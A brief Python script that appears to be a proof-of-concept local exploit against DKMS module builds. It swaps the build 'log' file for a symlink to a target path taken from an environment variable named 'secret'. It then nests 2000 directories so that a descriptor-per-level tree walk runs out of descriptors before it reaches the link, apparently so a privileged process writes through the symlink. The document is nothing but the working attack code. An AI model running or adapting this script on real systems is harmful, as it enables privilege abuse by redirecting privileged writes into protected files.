#!/usr/bin/python3
# A walk over the results that keeps a descriptor for each level runs out of them before it comes to the link, where the log is written.
import os
os.chdir('/'.join(os.environ[name] for name in ('dkms_tree', 'module', 'module_version', 'kernelver', 'arch')))
os.rename('log', 'log.old')
os.symlink(os.environ['secret'], 'log')
for _ in range(2000):
    os.mkdir('a')
    os.chdir('a')
